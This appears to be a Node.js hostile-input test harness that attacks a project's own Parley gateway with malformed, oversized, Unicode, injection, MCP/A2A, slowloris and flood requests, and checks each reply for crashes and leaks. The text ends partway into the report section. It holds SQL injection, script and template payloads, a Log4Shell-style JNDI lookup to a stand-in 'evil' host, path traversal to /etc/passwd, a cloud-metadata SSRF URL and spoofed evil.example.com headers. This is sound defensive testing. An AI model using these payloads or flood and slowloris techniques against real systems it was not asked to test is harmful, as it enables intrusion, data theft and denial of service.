#!/usr/bin/env node
// `npm run hostile [-- --url URL --key KEY]`: a hostile-input campaign against a running Parley.
//
// Without --url it starts `npm start` (apps/parley/src/main.ts, every service in one process) on a free port with a
// development key of its own, and stops it at the end. With --services it starts the separate services instead
// (registry, negotiation, execution, gateway and the flight-booking example agent as their own processes, on the
// local PostgreSQL in a database of their own and on NATS under a subject prefix of their own: DATABASE_URL, an
// admin URL, default postgres://postgres@127.0.0.1:5432/postgres; NATS_URL, default nats://127.0.0.1:4222). With --url (and --key or PARLEY_API_KEY: an API key with the
// operator role) it runs against that gateway, e.g. the separate services of docker compose; --insecure-tls accepts
// a self-signed certificate there. Categories (each a list of requests, sent a few at a time):
//   malformed    JSON-RPC envelopes that are not valid requests, batches of every size, unknown methods
//   huge-deep    bodies over MAX_BODY_BYTES (declared and streamed), 10,000-deep nesting, 1 MiB strings, wide objects
//   unicode      NUL, lone surrogates, BOM, bidi overrides, zero-width, combining marks, five scripts, emoji
//   injection    SQL, script, template, path, SSRF and JS property names in every string param of every method
//   mcp-a2a      malformed tools/call and tools/list, arrays of calls, foreign Host/Origin, A2A metadata and parts
//   slow         slowloris headers and dribbled bodies (the server must close them), measured by how soon it does
//   flood        a burst of 400 requests and 100 concurrent 1 MB bodies from one principal
// Every answer is checked: a JSON-RPC result or an error with a type other than `internal`; HTTP status below 500;
// no stack trace, SQL or internal host:port in the body. A sampler GETs /healthz every 100 ms throughout, and the
// worst latency is reported per category. State: agents, schemas, API keys, event subscriptions and executions
// dispatched (parley_executions_total at /metrics) before and after, beside the number of calls that succeeded.
// Prints a table; the last line is one JSON object with the figures. Exit 1 on any crash, internal error or leak.
import { spawn } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { request as httpRequest } from 'node:http';
import { request as httpsRequest } from 'node:https';
import { connect as netConnect, createServer } from 'node:net';
import { connect as tlsConnect } from 'node:tls';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';

const ROOT = join(dirname(fileURLToPath(import.meta.url)), '..');
const argv = process.argv.slice(2);
const arg = (name) => {
  const i = argv.indexOf(name);
  return i >= 0 ? argv[i + 1] : undefined;
};
if (argv.includes('--help') || argv.includes('-h')) {
  process.stdout.write('npm run hostile [-- --services | --url http://host:8080 --key pk_… [--insecure-tls]] [--only cat1,cat2] [--concurrency 8]\n');
  process.exit(0);
}
const ONLY = arg('--only')?.split(',');
const CONCURRENCY = Number(arg('--concurrency') ?? 8);
const insecure = argv.includes('--insecure-tls');

// ---------------------------------------------------------------------------
// The target: a URL given, or npm start on a free port.
// ---------------------------------------------------------------------------
let base = arg('--url');
let key = arg('--key') ?? process.env.PARLEY_API_KEY;
let child;
let childOut = '';
/** --services: the processes started, and the database to drop at the end. */
const services = [];
let dropDatabase;
/** Where parley_executions_total is read: the gateway's /metrics, and execution's health server with --services. */
const metricsUrls = [];
const freePort = () =>
  new Promise((resolve) => {
    const s = createServer();
    s.listen(0, '127.0.0.1', () => {
      const p = s.address().port;
      s.close(() => resolve(p));
    });
  });
if (!base && argv.includes('--services')) {
  // The separate services on the local PostgreSQL and NATS (DATABASE_URL, NATS_URL): a database and a subject
  // prefix of their own, registry, negotiation, execution, the gateway and the flight-booking example agent.
  const pg = (await import('pg')).default;
  const adminUrl = process.env.DATABASE_URL ?? 'postgres://postgres@127.0.0.1:5432/postgres';
  const dbName = `parley_hostile_${randomBytes(4).toString('hex')}`;
  const admin = new pg.Client({ connectionString: adminUrl });
  await admin.connect();
  await admin.query(`CREATE DATABASE ${dbName}`);
  await admin.end();
  const dbUrl = new URL(adminUrl);
  dbUrl.pathname = `/${dbName}`;
  dropDatabase = async () => {
    const c = new pg.Client({ connectionString: adminUrl });
    await c.connect();
    await c.query(`DROP DATABASE IF EXISTS ${dbName} WITH (FORCE)`).catch(() => {});
    await c.end();
  };
  key = `pk_${randomBytes(8).toString('hex')}_${randomBytes(32).toString('base64url')}`;
  const [rg, ng, eg, rh, nh, eh, gw, ah] = await Promise.all(Array.from({ length: 8 }, freePort));
  const common = {
    PARLEY_SERVICE_TOKEN: randomBytes(32).toString('hex'),
    PARLEY_BOOTSTRAP_OPERATOR_KEY: key,
    PARLEY_API_KEY: key,
    DATABASE_URL: dbUrl.toString(),
    NATS_URL: process.env.NATS_URL ?? 'nats://127.0.0.1:4222',
    PARLEY_SUBJECT_PREFIX: `hostile${randomBytes(3).toString('hex')}`,
    LOG_LEVEL: 'error',
  };
  const startService = async (name, entry, env, readyUrl) => {
    const p = spawn(process.execPath, ['--import', 'tsx', join(ROOT, entry)], { cwd: ROOT, env: { ...process.env, ...common, ...env }, stdio: ['ignore', 'pipe', 'pipe'] });
    let out = '';
    p.stdout.on('data', (b) => (out = (out + b).slice(-20_000)));
    p.stderr.on('data', (b) => (out = (out + b).slice(-20_000)));
    services.push({ name, p, out: () => out });
    const until = Date.now() + 120_000;
    for (;;) {
      if (p.exitCode !== null || Date.now() > until) throw new Error(`${name} did not start:\n${out.slice(-2000)}`);
      const ok = await fetch(readyUrl).then((r) => r.status === 200, () => false);
      if (ok) break;
      await sleep(250);
    }
  };
  const registry = { REGISTRY_ADDR: `127.0.0.1:${rg}` };
  await startService('registry', 'apps/registry/src/main.ts', { GRPC_PORT: `${rg}`, HEALTH_PORT: `${rh}` }, `http://127.0.0.1:${rh}/readyz`);
  await startService('negotiation', 'apps/negotiation/src/main.ts', { ...registry, GRPC_PORT: `${ng}`, HEALTH_PORT: `${nh}` }, `http://127.0.0.1:${nh}/readyz`);
  await startService('execution', 'apps/execution/src/main.ts', { ...registry, GRPC_PORT: `${eg}`, HEALTH_PORT: `${eh}`, NEGOTIATION_ADDR: `127.0.0.1:${ng}` }, `http://127.0.0.1:${eh}/readyz`);
  base = `http://127.0.0.1:${gw}`;
  metricsUrls.push(`http://127.0.0.1:${eh}/metrics`);
  await startService('gateway', 'apps/gateway/src/main.ts', { ...registry, PORT: `${gw}`, NEGOTIATION_ADDR: `127.0.0.1:${ng}`, EXECUTION_ADDR: `127.0.0.1:${eg}` }, `${base}/readyz`);
  await startService('agent-flight', 'apps/example-agents/src/main.ts', { SCENARIO: 'flight_booking', GATEWAY_URL: base, HEALTH_PORT: `${ah}` }, `http://127.0.0.1:${ah}/healthz`);
  for (let i = 0; i < 100; i++) {
    const r = await fetch(`${base}/rpc`, { method: 'POST', headers: { 'content-type': 'application/json', authorization: `Bearer ${key}` }, body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'list_schemas', params: { agent: 'skyways-air' } }) })
      .then((x) => x.json())
      .catch(() => undefined);
    if (r?.result?.schemas?.length) break;
    await sleep(200);
  }
  process.stderr.write(`hostile: the separate services are up, gateway at ${base}\n`);
} else if (!base) {
  const port = await freePort();
  key = `pk_${randomBytes(8).toString('hex')}_${randomBytes(32).toString('base64url')}`;
  child = spawn(process.execPath, ['--import', 'tsx', join(ROOT, 'apps/parley/src/main.ts')], {
    cwd: ROOT,
    // The rate limit is npm start's default (50/s, burst 100): the flood category meets it; the other
    // categories pace themselves under it.
    env: { ...process.env, PORT: String(port), PARLEY_DEMO: '0', PARLEY_DEV_KEY: key, LOG_LEVEL: 'error', HOST: '127.0.0.1' },
    stdio: ['ignore', 'pipe', 'pipe'],
  });
  child.stdout.on('data', (b) => (childOut = (childOut + b).slice(-50_000)));
  child.stderr.on('data', (b) => (childOut = (childOut + b).slice(-50_000)));
  const until = Date.now() + 180_000;
  while (!childOut.includes('Press Ctrl-C to stop.')) {
    if (Date.now() > until || child.exitCode !== null) {
      process.stderr.write(`npm start did not start:\n${childOut.slice(-3000)}\n`);
      process.exit(2);
    }
    await sleep(200);
  }
  base = `http://127.0.0.1:${port}`;
  process.stderr.write(`hostile: npm start is up at ${base}\n`);
} else if (!key) {
  process.stderr.write('hostile: --url needs --key or PARLEY_API_KEY (an operator key)\n');
  process.exit(2);
}
base = base.replace(/\/+$/, '');
const target = new URL(base);
const isTls = target.protocol === 'https:';

function sleep(ms) {
  return new Promise((r) => setTimeout(r, ms));
}

// ---------------------------------------------------------------------------
// HTTP with full control of headers (Host, Content-Length) and bodies.
// ---------------------------------------------------------------------------
/** One request; resolves { status, text, ms } or { error, ms }. */
function send({ method = 'POST', path = '/rpc', body = '', headers = {}, auth = true, timeoutMs = 60_000 }) {
  const started = performance.now();
  const buf = Buffer.isBuffer(body) ? body : Buffer.from(body, 'utf8');
  const h = {
    'content-type': 'application/json',
    accept: 'application/json, text/event-stream',
    ...(auth ? { authorization: `Bearer ${key}` } : {}),
    ...(method === 'POST' && headers['content-length'] === undefined && headers['transfer-encoding'] === undefined ? { 'content-length': buf.length } : {}),
    ...headers,
  };
  const fn = isTls ? httpsRequest : httpRequest;
  return new Promise((resolve) => {
    const req = fn({ host: target.hostname, port: target.port, path, method, headers: h, agent: false, ...(isTls ? { rejectUnauthorized: !insecure } : {}) }, (res) => {
      let text = '';
      res.setEncoding('utf8');
      res.on('data', (c) => (text += c.length + text.length > 2_000_000 ? '' : c));
      res.on('end', () => resolve({ status: res.statusCode, text, ms: performance.now() - started }));
      res.on('error', (e) => resolve({ error: e.code ?? e.message, ms: performance.now() - started }));
    });
    req.setTimeout(timeoutMs, () => req.destroy(new Error('client timeout')));
    req.on('error', (e) => resolve({ error: e.code ?? e.message, ms: performance.now() - started }));
    if (method === 'POST' && headers['content-length'] !== undefined && Number(headers['content-length']) > buf.length) {
      // A declared length larger than what is sent: send what there is and wait for the answer.
      req.write(buf);
      return;
    }
    req.end(method === 'POST' ? buf : undefined);
  });
}

const rpcText = (method, params, id = 1) => JSON.stringify({ jsonrpc: '2.0', id, method, ...(params === undefined ? {} : { params }) });
const rpc = async (method, params) => {
  const r = await send({ body: rpcText(method, params) });
  try {
    return JSON.parse(r.text);
  } catch {
    return undefined;
  }
};

// ---------------------------------------------------------------------------
// Checks of every answer.
// ---------------------------------------------------------------------------
const LEAKS = [
  [/\n\s+at [^\n]+[(:]\d+/, 'stack'],
  [/\b(?:SELECT\s|INSERT INTO|UPDATE \w+ SET|DELETE FROM)|relation "|syntax error at or near|violates \w+ constraint/, 'sql'],
  [/\b(?:\d{1,3}\.){3}\d{1,3}:\d{2,5}\b|\blocalhost:\d{2,5}\b|\[[0-9a-f:]+\]:\d{2,5}/i, 'host:port'],
];

/**
 * The leaks in an answer: matches of LEAKS that are not the caller's own input echoed back (an error quoting
 * the rejected value "1; SELECT pg_sleep(10)" shows nothing of the server).
 */
function leaksOf(text, sent, publicDoc) {
  const found = [];
  for (const [re, kind] of LEAKS) {
    if (publicDoc && kind === 'host:port') continue;
    const all = new RegExp(re.source, re.flags.includes('g') ? re.flags : `${re.flags}g`);
    for (const m of text.matchAll(all)) {
      const s = m[0].trim();
      if (!sent.includes(s) && !sent.includes(JSON.stringify(s).slice(1, -1))) {
        found.push(kind);
        break;
      }
    }
  }
  return found;
}

function classify(r, expectReset = false, publicDoc = false, sent = '') {
  if (r.error) return { kind: expectReset ? 'closed' : 'crash', detail: r.error };
  const leaks = leaksOf(r.text, sent, publicDoc);
  let body;
  try {
    body = r.text === '' ? undefined : JSON.parse(r.text);
  } catch {
    body = undefined;
  }
  const members = Array.isArray(body) ? body : body === undefined ? [] : [body];
  let internal = 0;
  let typed = 0;
  let ok = 0;
  for (const m of members) {
    if (m && typeof m === 'object' && m.error) {
      const t = m.error.data?.type;
      if (t === 'internal') internal++;
      else typed++;
    } else if (m && typeof m === 'object' && 'result' in m) ok++;
  }
  if (members.length === 0 && r.status === 204) ok++;
  if (publicDoc && r.status === 200) ok++;
  // A card that names evil.example.com reflected the Host header: counted as a leak of the caller's choosing.
  if (publicDoc && r.text.includes('evil.example.com')) leaks.push('reflected Host');
  return { kind: r.status >= 500 ? '5xx' : internal ? 'internal' : typed ? 'typed' : ok ? 'ok' : r.status === 404 || r.status === 405 ? 'typed' : 'other', leaks, status: r.status };
}

// ---------------------------------------------------------------------------
// Health sampler.
// ---------------------------------------------------------------------------
let currentCategory = 'idle';
const worstHealth = new Map();
let sampling = true;
const sampler = (async () => {
  while (sampling) {
    const r = await send({ method: 'GET', path: '/healthz', auth: false, timeoutMs: 30_000 });
    const prev = worstHealth.get(currentCategory) ?? 0;
    worstHealth.set(currentCategory, Math.max(prev, r.error ? 30_000 : r.ms));
    await sleep(100);
  }
})();

// ---------------------------------------------------------------------------
// State snapshot.
// ---------------------------------------------------------------------------
async function snapshot() {
  const count = async (method, params, field) => {
    const r = await rpc(method, params);
    return Array.isArray(r?.result?.[field]) ? r.result[field].length : null;
  };
  const texts = [];
  const m = await send({ method: 'GET', path: '/metrics', auth: false });
  if (m.status === 200) texts.push(m.text);
  for (const u of metricsUrls) texts.push(await fetch(u).then((r) => r.text(), () => ''));
  const lines = texts.join('\n').split('\n').filter((l) => l.startsWith('parley_executions_total'));
  const executions = texts.length ? lines.reduce((a, l) => a + Number(l.split(' ').pop()), 0) : null;
  return {
    agents: await count('list_agents', {}, 'agents'),
    schemas: await count('list_schemas', { include_retired: true }, 'schemas'),
    api_keys: await count('list_api_keys', { include_revoked: true }, 'api_keys'),
    subscriptions: await count('list_event_subscriptions', {}, 'subscriptions'),
    executions,
  };
}

// ---------------------------------------------------------------------------
// The cases.
// ---------------------------------------------------------------------------
const FIG8 = { origin: 'PEK', destination: 'SHA', departure_date: '2026-05-04', cabin_class: 'business', passenger_count: 1, other: 'window seat' };
const PROPERTY_NAMES = ['constructor', '__proto__', 'toString', 'hasOwnProperty', 'valueOf', 'prototype'];
const INJECTIONS = [
  "' OR '1'='1' --",
  '"; DROP TABLE registry.agents; --',
  "1; SELECT pg_sleep(10); --",
  '<script>alert(1)</script>',
  '${jndi:ldap://evil/a}',
  '{{constructor.constructor("return process")()}}',
  '../../../../etc/passwd',
  'http://169.254.169.254/latest/meta-data/',
  '%00%0d%0aSet-Cookie: x=1',
  'a'.repeat(70_000) + '!',
  'a.'.repeat(40_000),
  ...PROPERTY_NAMES,
];
const UNICODE = [
  'a\u0000b',
  '\ud800',
  'x\udc00y',
  '\udbff\udbff',
  '\ufeffbom',
  'right\u202eleft',
  'zero\u200bwidth\u200d',
  'e\u0301\u0301\u0301\u0301',
  '我想要靠窗的座位',
  '窓側の席をお願いします',
  'место у окна',
  'مقعد بجانب النافذة',
  '창가 좌석',
  '😀👩‍👩‍👧‍👦🏳️‍🌈',
  '\u{10ffff}\u{e000}',
  '\u0085\u2028\u2029',
];
const PARAMS = ['name', 'scenario', 'schema_id', 'agent', 'client_id', 'description', 'preferred_language', 'patch_id', 'task_id', 'principal', 'key_id', 'reason', 'since_etag', 'id', 'service'];

/** A case: a request description, and whether a closed connection is the expected outcome. */
/** A case; `public` documents (agent cards) name the gateway's own URL, which is no leak. */
const c = (req, opts = {}) => ({ req, expectReset: !!opts.expectReset, write: !!opts.write, public: !!opts.public });

async function methodNames() {
  // rpc.discover where the gateway offers it; else the method list a method_not_found error carries.
  const r = await rpc('__hostile_no_such_method__', {});
  const list = r?.error?.data?.details?.methods;
  return Array.isArray(list) ? list.filter((m) => typeof m === 'string') : ['execute', 'register_agent', 'get_schema_template', 'publish_schema', 'create_api_key'];
}

function deepText(n, open = '[', close = ']', inner = '1') {
  return open.repeat(n) + inner + close.repeat(n);
}

const CATEGORIES = {
  async malformed() {
    const bodies = [
      '', ' ', '{', '}', 'null', 'true', '1', '"x"', '[]', '[1,2,3]', '[[]]', '{}', '{"jsonrpc":"1.0","id":1,"method":"whoami"}',
      '{"jsonrpc":"2.0","id":1}', '{"jsonrpc":"2.0","id":1,"method":1}', '{"jsonrpc":"2.0","id":1,"method":""}', '{"jsonrpc":"2.0","id":{"a":1},"method":"whoami"}',
      '{"jsonrpc":"2.0","id":[1],"method":"whoami"}', '{"jsonrpc":"2.0","id":1e999,"method":"whoami"}', '{"jsonrpc":"2.0","id":1,"method":"whoami","params":[1,2]}',
      '{"jsonrpc":"2.0","id":1,"method":"whoami","params":"x"}', '{"jsonrpc":"2.0","id":1,"method":"whoami","params":null}', '{"jsonrpc":"2.0","id":1,"method":"whoami",}',
      "{'jsonrpc':'2.0'}", '{"jsonrpc":"2.0","id":1,"method":"whoami"}garbage', '\u0000', '\ufeff{"jsonrpc":"2.0","id":1,"method":"whoami"}',
      '{"jsonrpc":"2.0","id":1,"method":"__proto__"}', '{"jsonrpc":"2.0","id":1,"method":"constructor"}', '{"jsonrpc":"2.0","id":1,"method":"toString"}',
      '{"jsonrpc":"2.0","id":1,"method":"hasOwnProperty"}', '{"jsonrpc":"2.0","id":1,"method":"rpc.discover"}', '{"jsonrpc":"2.0","method":"execute","params":{}}',
      '{"__proto__":{"jsonrpc":"2.0"},"id":1,"method":"whoami"}', '{"jsonrpc":"2.0","id":1,"method":"whoami","params":{"__proto__":{"admin":true}}}',
      '{"jsonrpc":"2.0","id":1,"method":"execute","params":{"schema_id":"flight_booking_v1","payload":{"__proto__":{"x":1}}}}',
      JSON.stringify([{ jsonrpc: '2.0', id: 1, method: 'whoami' }, 1, null, 'x']),
      JSON.stringify(Array.from({ length: 101 }, (_, i) => ({ jsonrpc: '2.0', id: i, method: 'whoami' }))),
      JSON.stringify(Array.from({ length: 5000 }, (_, i) => ({ jsonrpc: '2.0', id: i, method: 'whoami' }))),
    ];
    const out = bodies.map((body) => c({ body }));
    for (const m of ['GET', 'PUT', 'DELETE', 'OPTIONS']) out.push(c({ method: m, path: '/rpc' }));
    out.push(c({ body: rpcText('whoami'), headers: { 'content-type': 'text/plain' } }));
    out.push(c({ body: rpcText('whoami'), headers: { 'idempotency-key': '\u00ff'.repeat(300) } }));
    out.push(c({ body: rpcText('whoami'), auth: false }));
    out.push(c({ body: rpcText('whoami'), auth: false, headers: { authorization: 'Bearer pk_0000000000000000_' + 'A'.repeat(43) } }));
    out.push(c({ body: rpcText('whoami'), auth: false, headers: { authorization: 'Basic ' + 'x'.repeat(10_000) } }));
    return out;
  },
  async 'huge-deep'() {
    const big = (n) => rpcText('list_agents', { x: 'y'.repeat(n) });
    return [
      c({ body: big(2 * 1024 * 1024) }),
      c({ body: big(1024 * 1024 - 200) }),
      c({ body: '{"x":1}', headers: { 'content-length': String(10 * 1024 ** 3) } }, { expectReset: true }),
      c({ body: deepText(10_000) }),
      c({ body: deepText(100_000, '{"a":', '}') }),
      c({ body: `{"jsonrpc":"2.0","id":1,"method":"execute","params":{"schema_id":"flight_booking_v1","payload":{"origin":"PEK","destination":"SHA","departure_date":"2026-05-04","other":${deepText(5000)}}}}` }),
      c({ body: `{"jsonrpc":"2.0","id":1,"method":"publish_schema","params":{"agent":"skyways-air","template":{"schema_id":"deep_v1","scenario":"Deep","keys":[]},"response_schema":${deepText(10_000, '{"type":"object","properties":{"a":', '}}', '{"type":"string"}')}}}` }),
      c({ body: rpcText('list_agents', Object.fromEntries(Array.from({ length: 50_000 }, (_, i) => [`k${i}`, i]))) }),
      c({ body: rpcText('execute', { schema_id: 'flight_booking_v1', payload: { ...FIG8, other: Array.from({ length: 60_000 }, () => 'x') } }) }, { write: true }),
      c({ body: rpcText('execute', { schema_id: 'flight_booking_v1', payload: { ...FIG8, origin: 'P'.repeat(1_000_000) } }) }),
      c({ body: rpcText('register_agent', { name: 'x'.repeat(1_000_000), scenarios: ['flight_booking'] }) }),
      c({ body: rpcText('get_schema_template', { scenario: 'flight booking '.repeat(60_000) }) }),
      c({ body: rpcText('list_agents', { tags: Array.from({ length: 100_000 }, () => 'a') }) }),
    ];
  },
  async unicode() {
    const out = [];
    for (const s of UNICODE) {
      out.push(c({ body: rpcText('execute', { schema_id: 'flight_booking_v1', payload: { ...FIG8, other: s } }) }, { write: true }));
      out.push(c({ body: rpcText('execute', { schema_id: 'flight_booking_v1', payload: { ...FIG8, [s]: 1 } }) }));
      out.push(c({ body: rpcText('register_agent', { name: 'hostile-agent', description: s, scenarios: ['hostile_unicode_scenario'] }) }, { write: true }));
      out.push(c({ body: rpcText('create_api_key', { principal: 'hostile', roles: ['client_agent'], description: s }) }, { write: true }));
      out.push(c({ body: rpcText('get_schema_template', { scenario: s, preferred_language: s }) }));
      out.push(c({ body: rpcText('publish_schema', { agent: 'skyways-air', template: { schema_id: 'hostile_v1', scenario: s, keys: [] } }) }, { write: true }));
      out.push(c({ path: '/mcp', body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/list', params: { _meta: { query: s } } }) }));
    }
    return out;
  },
  async injection() {
    const out = [];
    const methods = await methodNames();
    for (const m of methods) {
      for (const p of PARAMS) {
        for (const s of INJECTIONS) out.push(c({ body: rpcText(m, { [p]: s }) }, { write: true }));
      }
    }
    for (const s of INJECTIONS) {
      for (const field of ['origin', 'destination', 'departure_date', 'cabin_class', 'other']) {
        out.push(c({ body: rpcText('execute', { schema_id: 'flight_booking_v1', payload: { ...FIG8, [field]: s } }) }, { write: true }));
      }
    }
    return out;
  },
  async 'mcp-a2a'() {
    const tool = 'skyways-air__flight_booking';
    const mcp = (msg, headers = {}) => c({ path: '/mcp', body: typeof msg === 'string' ? msg : JSON.stringify(msg), headers });
    const out = [
      mcp({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: tool, arguments: 'x' } }),
      mcp({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: tool, arguments: [1, 2] } }),
      mcp({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { arguments: {} } }),
      mcp({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: 'x' }),
      mcp({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: tool, arguments: FIG8, _meta: 'x' } }),
      mcp({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: tool, arguments: FIG8, _meta: { requireOutput: 'x', idempotency_key: '\u0000' } } }),
      mcp({ jsonrpc: '2.0', id: 1, method: 'tools/list', params: { _meta: { top_k: -1, cut: 'x', tags: 'y', refs: 'remote', query: 'a.'.repeat(30_000) } } }),
      mcp({ jsonrpc: '2.0', id: 1, method: 'tools/list', params: { cursor: 7 } }),
      mcp(`{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"${tool}","arguments":{"origin":"PEK","destination":"SHA","departure_date":"2026-05-04","__proto__":{"x":1}}}}`),
      mcp(Array.from({ length: 30 }, (_, i) => ({ jsonrpc: '2.0', id: i, method: 'tools/call', params: { name: tool, arguments: { ...FIG8, passenger_count: 99 } } }))),
      mcp(Array.from({ length: 200 }, (_, i) => ({ jsonrpc: '2.0', id: i, method: 'ping' }))),
      mcp({ jsonrpc: '2.0', id: 1, method: 'initialize', params: { protocolVersion: '1900-01-01', capabilities: 'x', clientInfo: 7 } }),
      mcp({ jsonrpc: '2.0', id: 1, method: 'resources/read', params: { uri: 'file:///etc/passwd' } }),
      mcp({ jsonrpc: '2.0', id: 1, method: 'initialize', params: { protocolVersion: '2025-06-18', capabilities: {}, clientInfo: { name: 'x', version: '1' } } }, { host: 'evil.example.com' }),
      mcp({ jsonrpc: '2.0', id: 1, method: 'initialize', params: { protocolVersion: '2025-06-18', capabilities: {}, clientInfo: { name: 'x', version: '1' } } }, { origin: 'http://evil.example.com' }),
      mcp({ jsonrpc: '2.0', id: 1, method: 'initialize', params: { protocolVersion: '2025-06-18', capabilities: {}, clientInfo: { name: 'x', version: '1' } } }, { origin: 'null' }),
      c({ method: 'GET', path: '/mcp' }),
      c({ method: 'DELETE', path: '/mcp' }),
    ];
    const a2a = (msg, path = '/a2a') => c({ path, body: typeof msg === 'string' ? msg : JSON.stringify(msg) });
    const msg = (parts, metadata) => ({ jsonrpc: '2.0', id: 1, method: 'SendMessage', params: { message: { messageId: 'm1', role: 'ROLE_USER', parts, ...(metadata ? { metadata } : {}) } } });
    out.push(
      a2a(msg([{ data: FIG8 }], { scenario: 'flight_booking', requireOutput: ['nope'] })),
      a2a(`{"jsonrpc":"2.0","id":1,"method":"SendMessage","params":{"message":{"messageId":"m","role":"ROLE_USER","parts":[{"data":${JSON.stringify({ ...FIG8, passenger_count: 99 })}}],"metadata":{"scenario":"flight_booking","__proto__":{"admin":true}}}}}`),
      a2a(msg([{ text: 'book me a flight' }])),
      a2a(msg('x')),
      a2a(msg([{ data: { scenario: 'flight_booking', payload: { ...FIG8, other: '\ud800' } } }])),
      a2a({ jsonrpc: '2.0', id: 1, method: 'SendStreamingMessage', params: {} }),
      a2a({ jsonrpc: '2.0', id: 1, method: 'tasks/get', params: { id: '../../etc' } }),
      a2a({ jsonrpc: '2.0', id: 1, method: 'constructor', params: {} }),
      a2a([{ jsonrpc: '2.0', id: 1, method: 'SendMessage' }]),
      a2a(msg([{ data: FIG8 }], { scenario: 'flight_booking' }), '/a2a/..%2F..%2Fetc'),
      a2a(msg([{ data: FIG8 }], { scenario: 'flight_booking' }), '/a2a/' + 'x'.repeat(5000)),
      c({ method: 'GET', path: '/a2a/constructor/.well-known/agent-card.json' }),
      c({ method: 'GET', path: '/.well-known/agent-card.json', headers: { host: 'evil.example.com' } }, { public: true }),
    );
    return out;
  },
  async slow() {
    // Handled specially below: slowloris connections and dribbled bodies.
    return [];
  },
  async flood() {
    const out = [];
    for (let i = 0; i < 400; i++) out.push(c({ body: rpcText('whoami') }));
    const body = rpcText('list_agents', { x: 'y'.repeat(1_000_000) });
    for (let i = 0; i < 100; i++) out.push(c({ body }));
    return out;
  },
};

/** Opens `n` raw connections that send partial headers (`dribble`: or a body) slowly; resolves how many the server closed and how soon. */
async function slowClients(n, dribbleBody, limitMs) {
  const open = () =>
    new Promise((resolve) => {
      const started = performance.now();
      const sock = isTls ? tlsConnect({ host: target.hostname, port: Number(target.port), rejectUnauthorized: !insecure }) : netConnect(Number(target.port), target.hostname);
      let closedAt;
      let answer = '';
      sock.on('data', (d) => (answer += d.toString('utf8')));
      sock.on('error', () => {});
      sock.on('close', () => {
        closedAt = performance.now() - started;
        clearInterval(timer);
        resolve({ closed: true, ms: closedAt, answer: answer.split('\r\n')[0] });
      });
      const head = dribbleBody
        ? `POST /rpc HTTP/1.1\r\nHost: ${target.host}\r\nAuthorization: Bearer ${key}\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n{"jsonrpc":"2.0"`
        : `POST /rpc HTTP/1.1\r\nHost: ${target.host}\r\n`;
      sock.write(head);
      const timer = setInterval(() => {
        if (!sock.destroyed) sock.write(dribbleBody ? ' ' : `X-Slow-${Math.random().toString(36).slice(2, 6)}: 1\r\n`);
      }, 1000);
      setTimeout(() => {
        if (closedAt === undefined) {
          clearInterval(timer);
          sock.destroy();
          resolve({ closed: false, ms: limitMs, answer: answer.split('\r\n')[0] });
        }
      }, limitMs);
    });
  return Promise.all(Array.from({ length: n }, open));
}

// ---------------------------------------------------------------------------
// The campaign.
// ---------------------------------------------------------------------------
const rows = [];
const before = await snapshot();
let successes = 0;
for (const [name, make] of Object.entries(CATEGORIES)) {
  if (ONLY && !ONLY.includes(name)) continue;
  currentCategory = name;
  const row = { category: name, cases: 0, ok: 0, typed: 0, internal: 0, '5xx': 0, crashes: 0, leaks: 0, other: 0, examples: [] };
  const note = (what) => {
    if (row.examples.length < 5) row.examples.push(what);
  };
  if (name === 'slow') {
    const slowloris = await slowClients(20, false, 75_000);
    const dribble = await slowClients(10, true, 75_000);
    for (const [label, list] of [['slowloris', slowloris], ['dribbled body', dribble]]) {
      for (const r of list) {
        row.cases++;
        if (r.closed) row.typed++;
        else {
          row.other++;
          note(`${label}: still open after ${r.ms} ms`);
        }
      }
      const closed = list.filter((r) => r.closed).map((r) => r.ms);
      row[`${label} closed after (max ms)`] = closed.length ? Math.round(Math.max(...closed)) : null;
    }
    rows.push(row);
    process.stderr.write(`hostile: ${name} done\n`);
    continue;
  }
  const cases = await make();
  // Under npm start's default rate limit (50/s, burst 100) a category other than flood paces itself.
  const pace = name === 'flood' ? 0 : 25;
  let next = 0;
  const worker = async () => {
    while (next < cases.length) {
      const k = cases[next++];
      let r = await send(k.req);
      // Refused for the rate limit before anything ran: wait as told and send again (the flood measures the refusals).
      for (let tries = 0; name !== 'flood' && !r.error && r.status === 429 && tries < 20; tries++) {
        await sleep(Number(/"retry_after_ms":(\d+)/.exec(r.text)?.[1] ?? 1000));
        r = await send(k.req);
      }
      const v = classify(r, k.expectReset, k.public, Buffer.isBuffer(k.req.body) ? k.req.body.toString('utf8') : String(k.req.body ?? ''));
      row.cases++;
      if (v.kind === 'ok') {
        row.ok++;
        if (k.write) successes++;
      } else if (v.kind === 'typed' || v.kind === 'closed') row.typed++;
      else if (v.kind === 'internal') {
        row.internal++;
        note(`internal: ${String(k.req.body ?? k.req.path).slice(0, 120)}`);
      } else if (v.kind === '5xx') {
        row['5xx']++;
        note(`HTTP ${v.status}: ${String(k.req.body ?? k.req.path).slice(0, 120)}`);
      } else if (v.kind === 'crash') {
        row.crashes++;
        note(`no answer (${v.detail}): ${String(k.req.body ?? k.req.path).slice(0, 120)}`);
      } else {
        row.other++;
        note(`HTTP ${v.status} untyped: ${String(k.req.body ?? k.req.path).slice(0, 80)} -> ${r.text?.slice(0, 80)}`);
      }
      if (v.leaks?.length) {
        row.leaks++;
        note(`leak ${v.leaks.join(',')}: ${r.text.slice(0, 160)}`);
      }
      if (pace) await sleep(pace);
    }
  };
  await Promise.all(Array.from({ length: name === 'flood' ? 50 : CONCURRENCY }, worker));
  rows.push(row);
  process.stderr.write(`hostile: ${name} done (${row.cases} cases)\n`);
}
currentCategory = 'after';
await sleep(2000);
const after = await snapshot();
sampling = false;
await sampler;
const alive = child ? child.exitCode === null : (await send({ method: 'GET', path: '/healthz', auth: false })).status === 200;
const finalExecute = await rpc('execute', { schema_id: 'flight_booking_v1', payload: FIG8 });

// ---------------------------------------------------------------------------
// Report.
// ---------------------------------------------------------------------------
const pad = (s, n) => String(s).padEnd(n);
const out = (s = '') => process.stdout.write(s + '\n');
